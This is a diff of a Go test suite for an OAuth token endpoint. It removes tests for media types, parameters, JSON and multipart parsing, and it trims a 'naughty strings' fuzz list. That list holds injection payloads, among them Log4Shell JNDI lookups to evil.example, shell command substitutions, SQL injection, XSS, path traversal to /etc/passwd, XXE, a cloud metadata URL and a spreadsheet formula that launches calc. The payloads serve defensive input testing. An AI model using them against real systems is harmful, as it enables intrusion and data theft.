@@ -5,7 +5,6 @@ import (
 	"fmt"
 	"net/http"
 	"net/url"
-	"os"
 	"strings"
 	"testing"
 
@@ -46,116 +45,6 @@ func TestT23T24OnlyPOST(t *testing.T) {
 	// A browser gets no permission with a success either.
 	d.hold(t, d.ask(t, "/oauth/token", ccGrant+"&"+asConf, "Origin", "https://evil.example"), granted())
 	d.upstream.none(t)
-}
-
-// TestT25To28T37MediaTypes: JSON and multipart of simple fields → 200; a file part, another or no media type, two Content-Type headers,
-// utf-16, bytes outside the declared charset → 400; Content-Encoding → 415, nothing is decompressed. Nothing is decompressed, so that
-// there is no bomb.
-func TestT25To28T37MediaTypes(t *testing.T) {
-	d := openDoor(t, patient)
-	form, object := ccGrant+"&"+asConf, jsonBody(confFields()...)
-	multi, _ := multipartBody(confFields()...)
-	withFile := strings.Replace(multi, "--XX--", "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"f\"\r\n\r\nx\r\n--XX--", 1)
-	of := func(types ...string) []string {
-		var headers []string
-		for _, contentType := range types {
-			headers = append(headers, "Content-Type", contentType)
-		}
-		return headers
-	}
-	unsupported, charset := malformed("content_type_unsupported"), malformed("charset_unsupported")
-	d.run(t, []tokenCase{
-		{"T25 JSON", object, of("application/json"), granted()},
-		{"T25 JSON, charset", object, of("application/json;charset=utf-8"), granted()},
-		{"T25 JSON, other case", object, of("Application/JSON; Charset=\"UTF-8\""), granted()},
-		{"T25 JSON with spaces", "\r\n\t " + strings.ReplaceAll(object, ":", " : ") + " \n", of("application/json"), granted()},
-		{"T25 JSON, escaped", strings.Replace(object, "client_credentials", "client\\u005fcredentials", 1), of("application/json"), granted()},
-		{"T26 multipart", multi, of("multipart/form-data; boundary=XX"), granted()},
-		{"T26 multipart, quoted boundary", multi, of(`multipart/form-data; boundary="XX"`), granted()},
-		{"T26 with a file", withFile, of("multipart/form-data; boundary=XX"), malformed("multipart_part_unsupported")},
-		{"T27 none", form, of(""), outcome{status: 400, code: "invalid_request"}},
-		{"T27 text", form, of("text/plain"), unsupported},
-		{"T27 JSON:API", object, of("application/vnd.api+json"), unsupported},
-		{"T27 XML", form, of("application/xml"), unsupported},
-		{"T27 a form sent as JSON", form, of("application/json"), malformed("json_malformed")},
-		{"T27 JSON sent as a form", object, of(urlEncoded), outcome{status: 400, code: "invalid_request"}},
-		{"T27 suffix", object, of("application/jsonx"), unsupported},
-		{"T28 utf-16", form, of(urlEncoded + "; charset=utf-16"), charset},
-		{"T28 two headers", form, of(urlEncoded, "application/json"), malformed("content_type_duplicate")},
-		{"T28 the same twice", form, of(urlEncoded, urlEncoded), malformed("content_type_duplicate")},
-		{"T28 list", form, of(urlEncoded + ", application/json"), malformed("content_type_malformed")},
-		{"T28 UTF-8", form, of(urlEncoded + "; charset=UTF-8"), granted()},
-		{"T28 us-ascii", form, of(urlEncoded + "; charset=us-ascii"), granted()},
-		{"T28 ISO-8859-1", form, of(urlEncoded + ";charset=ISO-8859-1"), granted()},
-		{"T28 ISO-8859-1, JSON", object, of("application/json; charset=iso-8859-1"), granted()},
-		{"T28 ISO-8859-1, multipart", multi, of("multipart/form-data; charset=ISO-8859-1; boundary=XX"), granted()},
-		{"T28 us-ascii with others", form + "&x=\xe9", of(urlEncoded + "; charset=us-ascii"), charset},
-		{"T28 ISO-8859-1 with others", form + "&x=%E9", of(urlEncoded + "; charset=ISO-8859-1"), charset},
-		{"T28 ISO-8859-1 with UTF-8", form + "&x=%C3%A9", of(urlEncoded + "; charset=ISO-8859-1"), charset},
-		{"T28 windows-1252", form, of(urlEncoded + "; charset=windows-1252"), charset},
-		{"T28 charset twice", form, of(urlEncoded + "; charset=utf-8; charset=utf-16"), outcome{status: 400, code: "invalid_request"}},
-		{"T28 unknown parameter", form, of(urlEncoded + "; boundary=XX"), charset},
-		{"T28 RFC 2231", form, of(urlEncoded + "; charset*=utf-8''utf-8"), malformed("content_type_malformed")},
-	})
-	encoded := []tokenCase{{"T37 identity", form, []string{"Content-Encoding", "identity"}, granted()}}
-	for _, encoding := range []string{"gzip", "GZIP", "deflate", "br", "zstd", "identity, gzip", "x"} {
-		encoded = append(encoded, tokenCase{"T37 " + encoding, form, []string{"Content-Encoding", encoding}, outcome{status: 415, code: "invalid_request", reason: "content_encoding_unsupported"}})
-	}
-	d.run(t, encoded)
-	status, _, _ := d.raw("POST /oauth/token HTTP/1.1\nHost: " + d.addr + "\nContent-Length: 5\n\na=b&c")
-	if lines := d.decisions(t); status != 400 || len(lines) != 1 || lines[0]["reason"] != "content_type_missing" {
-		t.Errorf("T27 no Content-Type at all: %d %v", status, lines)
-	}
-}
-
-// TestT29To33Parameters: a parameter twice, even an identical or an unknown one; `;` as separator, malformed escapes, names such as
-// `scope[a]` → 400; an unknown one → ignored; an empty one → as omitted.
-func TestT29To33Parameters(t *testing.T) {
-	d := openDoor(t, patient)
-	form := ccGrant + "&" + asConf
-	duplicate, name, syntax := malformed("parameter_duplicate"), malformed("parameter_name_invalid"), malformed("form_malformed")
-	d.run(t, []tokenCase{
-		{"T29 code twice", form + "&code=a&code=b", nil, duplicate},
-		{"T29 grant_type twice", form + "&grant_type=password", nil, duplicate},
-		{"T29 identical", form + "&scope=public&scope=public", nil, duplicate},
-		{"T29 once empty", form + "&scope=&scope=public", nil, duplicate},
-		{"T29 client_id twice", form + "&client_id=other", nil, duplicate},
-		{"T29 encoded name", form + "&%67rant_type=password", nil, duplicate},
-		{"T29 empty secret beside Basic, twice", ccGrant + "&client_secret=&client_secret=", basic("conf:" + confSecret), duplicate},
-		{"T30 unknown", form + "&unknown=1&display=x&state=y", nil, granted()},
-		{"T30 unknown, repeated", form + "&unknown=1&unknown=1", nil, duplicate},
-		{"T30 other case is another name", form + "&SCOPE=trusted", nil, granted()},
-		{"T31 empty scope", form + "&scope=", nil, granted()},
-		{"T31 no value", form + "&scope&redirect_uri", nil, granted()},
-		{"T31 empty redirect_uri", form + "&redirect_uri=", nil, granted()},
-		{"T31 empty grant_type", "grant_type=&" + asConf, nil, missing("grant_type")},
-		{"T31 scope of spaces", form + "&scope=+++", nil, granted()},
-		{"T32 semicolons", form + "&a=1;b=2", nil, syntax},
-		{"T32 %zz", form + "&code=%zz", nil, syntax},
-		{"T32 % at the end", form + "&code=%", nil, syntax},
-		{"T32 half a byte", form + "&code=%4", nil, syntax},
-		{"T32 %zz in a name", form + "&%zz=1", nil, syntax},
-		{"T32 no name", form + "&=x", nil, name},
-		{"T32 nothing but =", form + "&=", nil, name},
-		{"T32 blanks", "&&" + form + "&&&", nil, granted()},
-		{"T32 only blanks", "&&&", nil, missing("grant_type")},
-		{"T33 scope[a]", form + "&scope[a]=b", nil, name},
-		{"T33 client_id[]", form + "&client_id[]=x", nil, name},
-		{"T33 grant_type[$ne]", form + "&grant_type[$ne]=", nil, name},
-		{"T33 encoded bracket", form + "&scope%5B%5D=trusted", nil, name},
-		{"T33 space before", form + "&+scope=trusted", nil, name},
-		{"T33 NUL behind", form + "&scope%00=trusted", nil, name},
-		{"T33 prototype", form + "&__proto__=x&constructor.prototype=y", nil, granted()},
-	})
-	withType := []string{"Content-Type", "application/json"}
-	multi, multiType := multipartBody(confFields("scope", "public", "scope", "public")...)
-	d.run(t, []tokenCase{
-		{"T29 JSON key", jsonBody(confFields("grant_type", "password")...), withType, duplicate},
-		{"T29 JSON key, escaped", strings.Replace(jsonBody(confFields("x", "1", "y", "2")...), `"y"`, `"\u0078"`, 1), withType, duplicate},
-		{"T29 part", multi, []string{"Content-Type", multiType}, duplicate},
-		{"T33 JSON name", jsonBody(confFields("grant_type[$ne]", "")...), withType, name},
-		{"T33 JSON empty name", jsonBody(confFields("", "")...), withType, name},
-	})
 }
 
 // TestT34T35T66T105Scopes: `+` and `%20` separate scopes; a tab, NBSP, quote, 2,000 names, an escaped `+`, a user's or an unknown scope →
@@ -220,108 +109,18 @@ func TestT34T35T66T105Scopes(t *testing.T) {
 	}
 }
 
-// TestT38ThirtyTwoParameters: 33 or 10,001 parameters, in each encoding → 400.
-func TestT38ThirtyTwoParameters(t *testing.T) {
-	d := openDoor(t, patient)
-	for _, e := range encodings {
-		for _, count := range []int{32, 33, 10001} {
-			fields := confFields()
-			for i := 3; i < count; i++ {
-				fields = append(fields, fmt.Sprintf("%x", i), "")
-			}
-			want := granted()
-			if count > 32 {
-				want = malformed("parameters_too_many")
-			}
-			if count > 33 && e.name != "urlencoded" { // as many as fit 64 KiB
-				fields = fields[:2*900]
-			}
-			body, contentType := e.body(fields...)
-			d.run(t, []tokenCase{{fmt.Sprint(e.name, " ", count), body, []string{"Content-Type", contentType}, want}})
-		}
-	}
-}
-
-// TestT39BytesThatAreNoText: NUL, control characters, invalid UTF-8 or lone surrogates in any known parameter, in every encoding → 400,
-// nothing is cut at a NUL. It goes through every text parameter in every encoding. A wrong credential is 401, everything else 400, and
-// nothing is cut at a NUL.
-func TestT39BytesThatAreNoText(t *testing.T) {
-	d := openDoor(t, patient)
-	values := map[string]string{
-		"NUL": "\x00", "BEL": "\a", "ESC": "\x1b[2J", "newline": "\n", "CRLF": "\r\n", "tab": "\t", "DEL": "\x7f", "invalid": "\xff",
-		"overlong": "\xc0\xaf", "surrogate": "\xed\xa0\x80", "beyond": "\xf4\x90\x80\x80", "half": "\xc3",
-	}
-	for name, odd := range values {
-		for _, parameter := range []string{"grant_type", "client_id", "client_secret", "scope", "unknown"} {
-			for _, e := range encodings[:2] {
-				fields := confFields("scope", "public", "unknown", "x")
-				for i := 0; i < len(fields); i += 2 {
-					if fields[i] == parameter {
-						fields[i+1] += odd
-					}
-				}
-				want := outcome{status: 400, code: "invalid_request"}
-				switch {
-				case strings.HasPrefix(parameter, "client_"):
-					want = outcome{status: 401, code: "invalid_client"}
-				case parameter == "unknown" && odd[0] < 0x80: // ignored (T147)
-					want = granted()
-				case parameter == "scope" && strings.TrimSpace(odd) == "": // which separates names (T35)
-					want = granted()
-				case parameter == "scope" && odd != "\x00" && odd[0] < 0x80:
-					want = badScope()
-				}
-				body, contentType := e.body(fields...)
-				d.run(t, []tokenCase{{fmt.Sprintf("%s %s %s", e.name, parameter, name), body, []string{"Content-Type", contentType}, want}})
-			}
-		}
-	}
-	const mark = "MARK"
-	for name, odd := range map[string]string{
-		"raw NUL": "\x00", "raw newline": "\n", "invalid": "\xff", "overlong": "\xc0\xaf", "surrogate": "\xed\xa0\x80",
-		`\u0000`: `\u0000`, `\ud800`: `\ud800`, `\udc00\ud800`: `\udc00\ud800`, `\x`: `\x41`,
-	} {
-		for _, parameter := range []string{"grant_type", "client_id", "client_secret", "scope", "unknown"} {
-			fields := confFields("scope", "public", "unknown", "x")
-			for i := 0; i < len(fields); i += 2 {
-				if fields[i] == parameter {
-					fields[i+1] += mark
-				}
-			}
-			want := outcome{status: 400, code: "invalid_request"}
-			if name == `\u0000` && strings.HasPrefix(parameter, "client_") {
-				want = badClient("client_credentials_malformed")
-			}
-			if name == `\u0000` && parameter == "unknown" { // ignored (T147)
-				want = granted()
-			}
-			body := strings.Replace(jsonBody(fields...), mark, odd, 1)
-			d.run(t, []tokenCase{{fmt.Sprintf("JSON %s %s", parameter, name), body, []string{"Content-Type", "application/json"}, want}})
-		}
-	}
-}
-
 // naughty are strings that have broken some program somewhere.
 var naughty = []string{
-	"undefined", "null", "NULL", "(null)", "nil", "NIL", "true", "false", "None", "hasOwnProperty", "then", "constructor",
-	"\\", "\\\\", "0", "1", "-1", "1.00", "$1.00", "1/2", "1E2", "1E02", "-0", "+0.0", "0/0", "0.0/0", "1/0", "NaN", "Infinity",
-	"-Infinity", "0xffffffffffffffff", "123456789012345678901234567890123456789", "1,000.00", "1 000.00", "01000", "08", "2.2250738585072011e-308",
-	",./;'[]\\-=", "<>?:\"{}|_+", "!@#$%^&*()`~", "Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "¡™£¢∞§¶•ªº–≠", "ЁЂЃЄЅІЇЈЉЊ", "٠١٢٣٤٥٦٧٨٩", "⁰⁴⁵₀₁₂",
-	"ด้้้้้็็็็็้้้้้็็็็็", "'", "\"", "''", "\"\"", "'\"'", "\"''''\"'\"", "田中さんにあげて下さい", "パーティーへ行かないか", "社會科學院語學研究所", "찦차를 타고 온",
-	"ﬁ", "İ", "ı", "ſ", "K", "ﬀ", "ß", "ẞ", "œ", "Å", "é", "e\u0301", "(╯°□°）╯︵ ┻━┻", "😍", "👩🏽", "👾 🙇 💁 🙅", "👨‍👩‍👦", "🇺🇸🇷🇺", "🇺🇸🇷", "１２３", "١٢٣",
-	"ثم نفس سقطت", "בְּרֵאשִׁית", "הָיְתָהtestالصفحات", "﷽", "ﷺ", "\u202etest\u202e", "\u202btest", "\u2066test\u2067", "\u200b", "\ufeff", "\ufffe", "\u00ad",
-	"\u2028", "\u2029", "\u0085", "\u00a0", "\u1680", "\u3000", "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤", "˙ɐnbᴉlɐ ɐuƃɐɯ", "𝐓𝐡𝐞", "𝕿𝖍𝖊", "⒯⒣⒠", "\U0010ffff", "\U000e0001",
-	"<script>alert(1)</script>", "&lt;script&gt;", "<img src=x onerror=alert(1)>", "</textarea><script>", "\"><script>alert(1)</script>", "' onmouseover=alert(1)",
-	"javascript:alert(1)", "data:text/html,<script>", "<svg/onload=alert(1)>", "<a href=\"\\x0Bjavascript:x\">", "${7*7}", "{{7*7}}", "<%= 7*7 %>", "#{7*7}", "${jndi:ldap://evil.example/a}",
-	"{http.request.header.Authorization}", "{env.HOME}", "{file./etc/passwd}", "{$HOME}", "%{(#a)}", "%s%s%s%s%n", "%x", "%d", "%p", "%!s(MISSING)", "$HOME", "`id`", "$(touch /tmp/x)", "; ls", "| cat /etc/passwd", "&& id",
-	"1;DROP TABLE clients", "1'; DROP TABLE clients-- 1", "' OR 1=1 -- 1", "' OR '1'='1", "'; EXEC sp_MSForEachTable", "%", "_", "\\' OR 1=1", "admin'--", "*)(uid=*))(|(uid=*", "{\"$ne\": null}", "[$ne]", "{$gt:''}",
-	"../../../../etc/passwd", "..\\..\\windows", "%2e%2e%2f", "/dev/null; touch x", "file:///etc/passwd", "http://169.254.169.254/", "//evil.example", "CON", "PRN", "AUX", "NUL.txt", "C:\\", "\\\\?\\",
-	"<!DOCTYPE foo [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\" >]><foo>&xxe;</foo>", "() { 0; }; touch x", "Kernel.exit(1)", "System(\"ls\")", "eval(\"puts\")", "__import__('os')", "java.lang.Runtime", "O:8:\"stdClass\":0:{}", "!!python/object/apply:os.system",
-	"basic", "Bearer eyJhbGciOiJub25lIn0.e30.", "If you're reading this", "Scunthorpe", "Craig Cockburn", "Linda Callahan", "Dr. Herman I. Libshitz", "=cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "+1", "\"\"\"", "'''", "[]", "{}", "[object Object]", "function(){}",
-	strings.Repeat("a", 5000), strings.Repeat("é", 3000), strings.Repeat("{", 2000), strings.Repeat("\"", 500), strings.Repeat("a ", 900), strings.Repeat("a ", 200),
+	"undefined", "null", "true", "None", "hasOwnProperty", "constructor", "\\", "0", "-1", "1E02", "0/0", "NaN", "-Infinity", "0xffffffffffffffff", "123456789012345678901234567890123456789", "1,000.00",
+	",./;'[]\\-=", "<>?:\"{}|_+", "!@#$%^&*()`~", "Ω≈ç√∫˜µ≤≥÷", "٠١٢٣٤٥٦٧٨٩", "ด้้้้้็็็็็้้้้้็็็็็", "'", "\"", "社會科學院語學研究所", "ﬁ", "İ", "ſ", "K", "ß", "e\u0301", "👩🏽", "👨‍👩‍👦", "🇺🇸🇷", "１２３", "﷽",
+	"\u202etest\u202e", "\u200b", "\ufeff", "\ufffe", "\u2028", "\u0085", "\u00a0", "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤", "\U0010ffff", "<script>alert(1)</script>", "&lt;script&gt;", "\"><script>alert(1)</script>", "javascript:alert(1)",
+	"${7*7}", "{{7*7}}", "<%= 7*7 %>", "${jndi:ldap://evil.example/a}", "{http.request.header.Authorization}", "{env.HOME}", "{file./etc/passwd}", "%s%s%s%s%n", "%!s(MISSING)", "$HOME", "`id`", "$(touch /tmp/x)", "; ls", "| cat /etc/passwd",
+	"1'; DROP TABLE clients-- 1", "' OR '1'='1", "%", "_", "admin'--", "*)(uid=*))(|(uid=*", "{\"$ne\": null}", "[$ne]", "../../../../etc/passwd", "%2e%2e%2f", "file:///etc/passwd", "http://169.254.169.254/", "CON", "\\\\?\\",
+	"() { 0; }; touch x", "O:8:\"stdClass\":0:{}", "!!python/object/apply:os.system", "Bearer eyJhbGciOiJub25lIn0.e30.", "Scunthorpe", "=cmd|' /C calc'!A0", "+1", "[]", "{}", "[object Object]",
+	strings.Repeat("a", 5000), strings.Repeat("é", 3000), strings.Repeat("{", 2000), strings.Repeat("\"", 500), strings.Repeat("a ", 900),
 }
 
-// TestT40NaughtyStrings: 515 naughty strings in each text parameter → no 5xx, and nothing reflected.
+// TestT40NaughtyStrings: a hundred naughty strings in each text parameter → no 5xx, and nothing reflected.
 func TestT40NaughtyStrings(t *testing.T) {
 	d := openDoor(t, patient)
 	d.decisions(t)
@@ -380,7 +179,7 @@ func TestT40NaughtyStrings(t *testing.T) {
 			d.holdUnaudited(t, a, outcome{status: 401, code: "invalid_client", basic: true})
 		}
 	}
-	// Beyond a thousand refusals a second the audit log is thinned out, and how fast this machine is nobody knows.
+	// Beyond a thousand refusals a second the audit log is sampled, and the speed of this machine is unknown.
 	if lines := d.decisions(t); len(lines) > sent || len(lines) < 1000 {
 		t.Errorf("%d audit lines for %d requests", len(lines), sent)
 	}
@@ -419,7 +218,7 @@ func TestT43T44T104GrantTypes(t *testing.T) {
 	d.run(t, cases)
 }
 
-// TestT68AServerTokenIsOneWhateverItsName: a client may be called like somebody important, or like a user.
+// TestT68AServerTokenIsOneWhateverItsName: a client whose id is `admin` or an e-mail address → its tokens are server tokens without a user.
 func TestT68AServerTokenIsOneWhateverItsName(t *testing.T) {
 	d := openDoor(t, patient)
 	for id, secret := range map[string]string{"admin": "admin-" + confSecret, "ada@acme.example": d.register(t, store.Client{ID: "ada@acme.example"})} {
@@ -447,119 +246,6 @@ func TestT68AServerTokenIsOneWhateverItsName(t *testing.T) {
 		if seen.Header.Get("X-Auth-Subject") != id || seen.Header["X-Auth-Role"] != nil || seen.Header["X-Auth-Organisation"] != nil {
 			t.Errorf("the upstream saw %v", seen.Header)
 		}
-	}
-}
-
-// TestT97JSONIsStrict: JSON with a number, array or object for a known member, a top-level array, trailing data, a BOM, depth 10,000 →
-// 400; null → absent; anything in an unknown member → ignored.
-func TestT97JSONIsStrict(t *testing.T) {
-	d := openDoor(t, patient)
-	right := jsonBody(confFields()...)
-	inside := func(member string) string { return right[:len(right)-1] + "," + member + "}" }
-	syntax := malformed("json_malformed")
-	noString := func(name string) outcome {
-		return outcome{400, "invalid_request", "json_member_no_string", contract["invalid_request"] + " The member " + name + " must be a string.", false}
-	}
-	withScope := func(value string) string { return inside(`"scope":` + value) }
-	of := func(cases ...tokenCase) []tokenCase {
-		for i := range cases {
-			cases[i].headers = []string{"Content-Type", "application/json"}
-		}
-		return cases
-	}
-	d.run(t, of(
-		tokenCase{"number", withScope("1"), nil, noString("scope")},
-		tokenCase{"bool", withScope("true"), nil, noString("scope")},
-		tokenCase{"array", withScope(`["public"]`), nil, noString("scope")},
-		tokenCase{"object", withScope(`{"a":"b"}`), nil, noString("scope")},
-		tokenCase{"a number as client_id", `{"grant_type":"client_credentials","client_id":7}`, nil, noString("client_id")},
-		tokenCase{"a list of grant types", `{"grant_type":["client_credentials"]}`, nil, noString("grant_type")},
-		tokenCase{"null for a parameter", `{"grant_type":null}`, nil, missing("grant_type")},
-		tokenCase{"null is absent", inside(`"scope":null,"code":null,"x":null`), nil, granted()},
-		tokenCase{"null beside a string", inside(`"scope":null,"scope":"public"`), nil, malformed("parameter_duplicate")},
-		tokenCase{"members that nobody knows", inside(`"a":1,"b":-1.5e300,"c":true,"d":["x",{"scope":1}],"e":{"grant_type":"password"}`), nil, granted()},
-		tokenCase{"members that nobody knows, twice", inside(`"a":1,"a":1`), nil, malformed("parameter_duplicate")},
-		tokenCase{"a member that nobody knows, with one twice", inside(`"a":{"b":1,"b":1}`), nil, syntax},
-		tokenCase{"top-level array", "[" + right + "]", nil, syntax},
-		tokenCase{"top-level string", `"x"`, nil, syntax},
-		tokenCase{"top-level null", "null", nil, syntax},
-		tokenCase{"empty", " ", nil, syntax},
-		tokenCase{"empty object", "{}", nil, missing("grant_type")},
-		tokenCase{"other case", strings.Replace(right, "grant_type", "Grant_Type", 1), nil, missing("grant_type")},
-		tokenCase{"folded case", strings.Replace(right, "client_secret", "client_ſecret", 1), nil, malformed("parameter_name_invalid")},
-		tokenCase{"trailing object", right + right, nil, syntax},
-		tokenCase{"trailing text", right + "x", nil, syntax},
-		tokenCase{"trailing comma", right[:len(right)-1] + ",}", nil, syntax},
-		tokenCase{"NUL behind", right + "\x00", nil, syntax},
-		tokenCase{"BOM", "\ufeff" + right, nil, syntax},
-		tokenCase{"UTF-16", "\xff\xfe{\x00}\x00", nil, syntax},
-		tokenCase{"invalid UTF-8", inside("\"x\":\"\xff\""), nil, syntax},
-		tokenCase{"invalid UTF-8 in a name", inside("\"x\xff\":\"\""), nil, outcome{status: 400, code: "invalid_request"}},
-		tokenCase{"depth 10000", inside(`"x":` + strings.Repeat("[", 10000) + strings.Repeat("]", 10000)), nil, syntax},
-		tokenCase{"depth 10000 of objects", inside(strings.Repeat(`"x":{`, 10000) + strings.Repeat("}", 10000)), nil, syntax},
-		tokenCase{"truncated", right[:len(right)-1], nil, syntax},
-		tokenCase{"truncated in a string", right[:len(right)-2], nil, syntax},
-		tokenCase{"comment", "/**/" + right, nil, syntax},
-		tokenCase{"single quotes", strings.ReplaceAll(right, `"`, `'`), nil, outcome{status: 400, code: "invalid_request"}},
-		tokenCase{"as it should be", right, nil, granted()},
-	))
-}
-
-// TestT98MultipartIsSimple: multipart with a file name, nested parts, a missing name, another transfer encoding, a long boundary, large
-// part headers, or cut off → 400, nothing is written to disk.
-func TestT98MultipartIsSimple(t *testing.T) {
-	// Whatever a parser writes to disk goes to the directory for temporary files.
-	temporary := t.TempDir()
-	d := openDoor(t, patient)
-	t.Setenv("TMPDIR", temporary)
-	right, _ := multipartBody(confFields()...)
-	with := func(headers, value string) string {
-		return strings.Replace(right, "--XX--", "--XX\r\n"+headers+"\r\n\r\n"+value+"\r\n--XX--", 1)
-	}
-	const boundary = "multipart/form-data; boundary=XX"
-	syntax, part := malformed("multipart_malformed"), malformed("multipart_part_unsupported")
-	disposition := `Content-Disposition: form-data; name="x"`
-	of := func(contentType string) []string { return []string{"Content-Type", contentType} }
-	d.run(t, []tokenCase{
-		{"filename", with(disposition+`; filename="x.txt"`, "x"), of(boundary), part},
-		{"empty filename", with(disposition+`; filename=""`, "x"), of(boundary), part},
-		{"filename*", with(disposition+`; filename*=utf-8''x`, "x"), of(boundary), outcome{status: 400, code: "invalid_request"}},
-		{"nested", with(disposition+"\r\nContent-Type: multipart/mixed; boundary=YY", "--YY\r\n\r\nx\r\n--YY--"), of(boundary), part},
-		{"no name", with("Content-Disposition: form-data", "x"), of(boundary), part},
-		{"empty name", with(`Content-Disposition: form-data; name=""`, "x"), of(boundary), malformed("parameter_name_invalid")},
-		{"no disposition", with("X: y", "x"), of(boundary), syntax},
-		{"two dispositions", with(disposition+"\r\n"+disposition, "x"), of(boundary), syntax},
-		{"attachment", with(`Content-Disposition: attachment; name="x"`, "x"), of(boundary), part},
-		{"base64", with(disposition+"\r\nContent-Transfer-Encoding: base64", "eA=="), of(boundary), part},
-		{"quoted-printable", with(disposition+"\r\nContent-Transfer-Encoding: quoted-printable", "=78"), of(boundary), part},
-		{"two transfer encodings", with(disposition+"\r\nContent-Transfer-Encoding: 8bit\r\nContent-Transfer-Encoding: base64", "eA=="), of(boundary), part},
-		{"7bit with others", with(disposition+"\r\nContent-Transfer-Encoding: 7bit", "é"), of(boundary), malformed("charset_unsupported")},
-		{"ISO-8859-1 with others", with(disposition+"\r\nContent-Type: text/plain; charset=ISO-8859-1", "\xe9"), of(boundary), malformed("charset_unsupported")},
-		{"7bit", with(disposition+"\r\nContent-Transfer-Encoding: 7bit", "x"), of(boundary), granted()},
-		{"8bit", with(disposition+"\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: 8bit", "é"), of(boundary), granted()},
-		{"binary", with(disposition+"\r\nContent-Transfer-Encoding: binary", "x"), of(boundary), granted()},
-		{"another charset", with(disposition+"\r\nContent-Type: text/plain; charset=utf-16", "x"), of(boundary), part},
-		{"its own type", with(disposition+"\r\nContent-Type: application/json", "{}"), of(boundary), part},
-		{"folded header", with("Content-Disposition: form-data;\r\n name=\"x\"", "x"), of(boundary), syntax},
-		{"long header", with(disposition+"\r\nX: "+strings.Repeat("x", 8<<10), "x"), of(boundary), syntax},
-		{"many headers", with(disposition+strings.Repeat("\r\nX: y", 2000), "x"), of(boundary), syntax},
-		{"missing boundary", right, of("multipart/form-data"), syntax},
-		{"empty boundary", right, of(`multipart/form-data; boundary=""`), syntax},
-		{"1 KiB boundary", right, of("multipart/form-data; boundary=" + strings.Repeat("X", 1024)), syntax},
-		{"other boundary", right, of("multipart/form-data; boundary=YY"), syntax},
-		{"boundary twice", right, of("multipart/form-data; boundary=XX; boundary=YY"), outcome{status: 400, code: "invalid_request"}},
-		{"multipart/mixed", right, of("multipart/mixed; boundary=XX"), malformed("content_type_unsupported")},
-		{"truncated", right[:len(right)-6], of(boundary), syntax},
-		{"no end", strings.TrimSuffix(right, "--XX--\r\n"), of(boundary), syntax},
-		{"preamble", "preamble\r\n" + right, of(boundary), syntax},
-		{"epilogue", right + "epilogue", of(boundary), syntax},
-		{"bare LF", strings.ReplaceAll(right, "\r\n", "\n"), of(boundary), syntax},
-		{"empty", "--XX--\r\n", of(boundary), missing("grant_type")},
-		{"text/plain part", with(disposition+"\r\nContent-Type: text/plain; charset=UTF-8", "x"), of(boundary), granted()},
-		{"as it should be", right, of(boundary), granted()},
-	})
-	if entries, err := os.ReadDir(temporary); err != nil || len(entries) > 0 {
-		t.Errorf("on disk: %v %v", entries, err)
 	}
 }
 
